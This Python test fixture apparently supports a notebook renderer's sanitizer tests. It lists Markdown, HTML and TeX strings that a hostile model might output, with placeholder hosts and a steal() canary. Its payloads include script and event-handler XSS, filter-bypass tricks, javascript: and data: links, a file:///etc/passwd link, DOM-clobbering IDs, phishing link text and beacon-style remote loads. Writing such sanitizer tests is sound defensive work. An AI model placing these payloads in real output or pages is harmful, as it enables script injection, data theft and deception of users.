"""What a hostile model might say, with addresses that a test can watch.

In each, `SITE` is another origin, `OWN` is the lab's own, and `steal()` is what may never run.
"""

SITE, OWN = "http://site.example", "http://own.example"

#: Markdown, HTML and TeX that would run, load, post, lead or fool, were they let.
PAYLOADS = (
    # Scripts, and what runs them.
    "<script>steal()</script>",
    f'<script src="{SITE}/canary.js"></script>',
    f'<script type="module">import "{SITE}/canary.js"</script>',
    "<img src=x-canary onerror=steal()>",
    "<svg onload=steal()></svg>",
    "<svg><script>steal()</script></svg>",
    "<svg><animate onbegin=steal() attributeName=x dur=1s></svg>",
    "<body onload=steal()>",
    "<details open ontoggle=steal()>x</details>",
    "<input autofocus onfocus=steal()>",
    "<video><source onerror=steal()></video>",
    "<marquee onstart=steal()>x</marquee>",
    "<p onmouseover=steal() onclick=steal()>x</p>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x-canary onerror=steal()>",
    '<noscript><p title="</noscript><img src=x-canary onerror=steal()>">',
    "<style>@keyframes k{}*{animation:k 1s}</style><p onanimationstart=steal()>x</p>",
    '<iframe srcdoc="<script>parent.steal()</script>"></iframe>',
    "<template shadowrootmode=open><img src=x-canary onerror=steal()></template>",
    # What loads something.
    f'<img src="{SITE}/canary.png">',
    f'<img srcset="{SITE}/canary.png 1x">',
    f'<picture><source srcset="{SITE}/canary.png"><img></picture>',
    f'<iframe src="{SITE}/canary"></iframe>',
    f'<object data="{SITE}/canary"></object><embed src="{SITE}/canary">',
    f'<video src="{SITE}/canary.mp4" autoplay poster="{SITE}/canary.png"></video>',
    f'<audio src="{SITE}/canary.mp3" autoplay></audio>',
    f'<link rel=stylesheet href="{SITE}/canary.css">',
    f'<link rel=prefetch href="{SITE}/canary"><link rel=preconnect href="{SITE}">',
    f"<style>@import url({SITE}/canary.css);</style>",
    f'<div style="background:url({SITE}/canary.png)">x</div>',
    f'<svg><image href="{SITE}/canary.png"/><use href="{SITE}/canary.svg#x"/></svg>',
    f'<meta http-equiv=refresh content="0;url={SITE}/canary">',
    f'<base href="{SITE}/canary/">',
    f'<form action="{SITE}/canary"><button autofocus>x</button></form>',
    f'<a href="{SITE}/" ping="{SITE}/canary">x</a>',
    f"![x]({SITE}/canary.png)",
    "![x](//127.0.0.1/canary.png)",
    f"![x]({OWN}/canary.png)",
    "![x](/api/contents/canary)",
    "![x](canary.png)",
    f"![x][1]\n\n[1]: {SITE}/canary.png",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9c3RlYWwoKT4=)",
    f"[![x]({SITE}/canary.png)]({SITE}/)",
    f"[x]: {SITE}/canary.png\n\n![x]",
    # Links that would run something, or lead where nobody looks.
    "[x](javascript:steal())",
    "[x](JaVaScRiPt:steal())",
    "[x](&#106;avascript:steal())",
    "[x](java\tscript:steal())",
    "[x](vbscript:steal())",
    "[x](data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+)",
    "[x](file:///etc/passwd)",
    "[x](/logout?canary)",
    "[x](//127.0.0.1/canary)",
    "<javascript:steal()>",
    '<a href="javascript:steal()">x</a>',
    f'<{SITE}/"onmouseover="steal()>',
    f'[x]({SITE}/ "a\\" onmouseover=\\"steal()")',
    f"[your bank]({SITE}/)",
    # What would fool the page.
    '<p id="jp-main-dock-panel" class="jp-Dialog">x</p>',
    '<form name="cookie"><input name="body"></form>',
    # Between the walls: code, tables, headings, formulas.
    "```html\n<script>steal()</script>\n```",
    '```"onmouseover="steal()\nx\n```',
    f"```mermaid\ngraph TD; A[<img src={SITE}/canary.png onerror=steal()>]\n```",
    "`<img src=x-canary onerror=steal()>`",
    "# <img src=x-canary onerror=steal()>",
    "| <img src=x-canary onerror=steal()> |\n|---|\n| <script>steal()</script> |",
    "$\\href{javascript:steal()}{x}$",
    f"$\\style{{background:url({SITE}/canary.png)}}{{x}}$",
    f"$\\includegraphics{{{SITE}/canary.png}}$ $\\require{{../../canary}}$",
    "$\\text{<img src=x-canary onerror=steal()>}$",
    "$\\cssId{jp-main-dock-panel}{x}$ $\\class{jp-Dialog}{y}$",
)


def payloads(site: str, own: str) -> list[str]:
    """Return them all, with these addresses."""
    return [one.replace(SITE, site).replace(OWN, own) for one in PAYLOADS]
